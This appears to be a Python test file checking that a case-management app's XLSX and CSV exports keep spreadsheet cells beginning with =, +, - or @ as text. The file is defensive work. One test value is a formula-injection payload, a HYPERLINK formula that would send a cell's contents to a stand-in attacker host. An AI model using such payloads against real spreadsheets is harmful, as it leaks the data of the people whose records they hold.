"""A caseload export never hands a spreadsheet a live formula: a caseworker's note or an imported cell
that starts with = + - @ comes out as text, and phone numbers starting with + stay readable."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl

from haven.accounts.actor import Actor
from haven.cases.actions import household_update, person_update
from haven.intake.choices import import_choices
from haven.intake.export import cases_export
from haven_core.intake import COLUMNS, read_table, validate

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
PHONE = "+1 555 0100"


def _hostile(household: Any, caseworker: Any) -> None:
    actor = Actor.for_user(caseworker)
    household_update(actor=actor, household=household, fields={"notes": FORMULA})
    principal = household.people.get(relationship="principal")
    person_update(actor=actor, person=principal, fields={"phone": PHONE, "email": "@SUM(1+1)"})


def _column(key: str) -> int:
    return [c.key for c in COLUMNS].index(key)


def test_the_xlsx_export_keeps_hostile_cells_as_text(household_a: Any, caseworker_a: Any) -> None:
    _hostile(household_a, caseworker_a)
    data = cases_export(actor=Actor.for_user(caseworker_a), organisation=household_a.organisation, fmt="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value}
    for value in (FORMULA, PHONE, "@SUM(1+1)"):
        assert cells[value].data_type == "s" and cells[value].quotePrefix, value
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_the_csv_export_quotes_hostile_cells(household_a: Any, caseworker_a: Any) -> None:
    _hostile(household_a, caseworker_a)
    data = cases_export(actor=Actor.for_user(caseworker_a), organisation=household_a.organisation, fmt="csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    principal = next(r for r in rows[1:] if r[_column("household_notes")])
    assert principal[_column("household_notes")] == "'" + FORMULA
    assert principal[_column("phone")] == "'" + PHONE
    assert principal[_column("email")] == "'@SUM(1+1)"
    assert not any(cell[:1] in "=+-@" and cell[:1] for row in rows for cell in row)


def test_a_csv_export_imported_again_gives_the_original_values(household_a: Any, caseworker_a: Any) -> None:
    _hostile(household_a, caseworker_a)
    data = cases_export(actor=Actor.for_user(caseworker_a), organisation=household_a.organisation, fmt="csv")
    report = validate(read_table(data, "export.csv"), import_choices())
    assert report.errors == []
    principal = next(p for _, p in report.people() if p.fields["relationship"] == "principal")
    assert (principal.fields["phone"], principal.fields["email"]) == (PHONE, "@SUM(1+1)")
    [household] = report.read(report.households)
    assert household.notes == FORMULA
